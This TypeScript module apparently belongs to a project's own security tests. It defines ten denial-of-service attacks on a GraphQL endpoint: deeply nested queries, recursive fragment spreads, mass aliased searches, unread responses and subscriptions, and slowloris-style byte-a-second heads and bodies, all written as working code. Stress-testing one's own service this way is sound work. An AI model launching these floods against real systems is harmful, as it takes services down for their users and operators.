import type { Attacker } from './attacker.ts';

/** One attack on cost, time or connections (issue 11, points 1 and 2; rule 49). */
export interface Attack {
  readonly name: string;
  /** What is done, in a few words, for docs/security.md. */
  readonly about: string;
  /** Attacks until the attacker's signal. */
  readonly run: (attacker: Attacker) => Promise<void>;
}

/** Within every limit on its text, and a hundred times what its estimate says. */
const deep = ({ target: { network } }: Attacker, name: string): string => `query ${name} { network(id: "${network}") {
  delegations(first: 100) { edges { node { visits { visit { delegation { visits { visitId service minutes } } } } } } }
} }`;

/**
 * Fragments that spread each other twice. A tower is refused at the door, by its levels; behind it
 * is what can be spread widely within them, and fields that validating compares with one another.
 */
const tower = ({ target: { network } }: Attacker, n: number): string => {
  const spread = (name: string) => `a: previous { ...${name} } b: previous { ...${name} }`;
  const fragment = (name: string, text: string) => `fragment ${name} on DelegationTerms { ${text} }`;
  const ask = (text: string, ...fragments: readonly string[]) =>
    `query Q${n} { network(id: "${network}") { terms { ...F0 } ${text} } } ${fragments.join(' ')}`;
  const high = Array.from({ length: 40 }, (_, level) =>
    fragment(`F${level}`, level < 39 ? spread(`F${level + 1}`) : 'id'),
  );
  const wide = [fragment('F0', spread('F1')), fragment('F1', 'id version '.repeat(200))];
  const alike = 'viewers { role } '.repeat(n % 2 === 0 ? 55 : 220);
  return n % 3 === 0 ? ask('', ...high) : n % 3 === 1 ? ask('', ...wide) : ask(alike, fragment('F0', 'id'));
};

/** As long as a text without a token may be, one field over and over, another text each time. */
const longText = (n: number): string => `query Q${n} { ${`questionnaire(token: "${n}") { title } `.repeat(45)}}`;

const head = ({ target: { token } }: Attacker, length: number, accept = 'application/json', as = token): string =>
  [
    'POST /graphql HTTP/1.1',
    'host: attacked',
    'content-type: application/json',
    `accept: ${accept}`,
    ...(as === '' ? [] : [`authorization: Bearer ${as}`]),
    `content-length: ${length}`,
    '\r\n',
  ].join('\r\n');

const posting = (attacker: Attacker, query: string, accept?: string): string => {
  const body = JSON.stringify({ query });
  return `${head(attacker, Buffer.byteLength(body), accept)}${body}`;
};

const BEGINNING = Buffer.from(JSON.stringify([0, 0, 0])).toString('base64url');

export const attacks: readonly Attack[] = [
  {
    name: 'deep query',
    about: '50 connections of one subject ask for lists within lists, each text new',
    run: (attacker) => attacker.flood(50, (n) => deep(attacker, `Q${n}`), attacker.target.token),
  },
  {
    name: 'the same, compiled',
    about: 'the same text each time',
    run: (attacker) => attacker.flood(50, () => deep(attacker, 'Same'), attacker.target.token),
  },
  {
    name: 'tower of fragments',
    about: 'fragments that spread each other, refused at the door; wide ones, and fields alike, within all limits',
    run: (attacker) => attacker.flood(20, (n) => tower(attacker, n), attacker.target.token),
  },
  {
    name: 'long texts without a token',
    about: '2,000 characters that name one field open to all 45 times, each text new',
    run: (attacker) => attacker.flood(50, longText, null),
  },
  {
    name: 'ever new texts',
    about: 'each sent three times, so that it is kept and compiled',
    run: (attacker) =>
      attacker.flood(
        20,
        (n) => `query Q${Math.floor(n / 3)} { viewer { subject role networks { id name members { joinedOn } } } }`,
        attacker.target.token,
      ),
  },
  {
    name: 'search over names',
    about: 'fifteen searches by name in one query',
    run: (attacker) => {
      const search = (n: number) =>
        `s${n}: clients(networkId: "${attacker.target.network}", search: "山${n}") { totalCount }`;
      const query = `{ ${Array.from({ length: 15 }, (_, n) => search(n)).join(' ')} }`;
      return attacker.flood(20, () => query, attacker.target.token);
    },
  },
  {
    name: 'answers not read',
    about: '100 connections ask for a large page over and over and read nothing',
    run: async (attacker) => {
      const page = `{ network(id: "${attacker.target.network}") { delegations(first: 100) { edges { node {
        visits { visitId plannedStart plannedEnd service minutes } } } } } }`;
      await attacker.open(100, () => posting(attacker, page).repeat(20));
      await attacker.wait();
    },
  },
  {
    name: 'bodies that drip',
    about: '300 connections announce 1 MiB and send a byte a second, half of them without a token',
    run: async (attacker) => {
      const withToken = head(attacker, 1_000_000);
      const without = head(attacker, 120_000, 'application/json', '');
      await attacker.open(300, (n) => `${n % 2 === 0 ? withToken : without}{`);
      await attacker.drip(' ', 1_000);
    },
  },
  {
    name: 'heads that drip',
    about: '1,000 connections send a head, a byte a second',
    run: async (attacker) => {
      await attacker.open(1_000, () => 'POST /graphql HTTP/1.1\r\nhost: x\r\n');
      await attacker.drip('a', 1_000);
    },
  },
  {
    name: 'subscriptions not read',
    about: '150 subscriptions of one subject from the beginning of the log, not read',
    run: async (attacker) => {
      const all = `subscription { ledgerChanges(networkId: "${attacker.target.network}", after: "${BEGINNING}") {
        entry { visit { delegation { visits { visitId plannedStart visit { id } } } } } } }`;
      await attacker.open(150, () => posting(attacker, all, 'text/event-stream'));
      await attacker.wait();
    },
  },
];
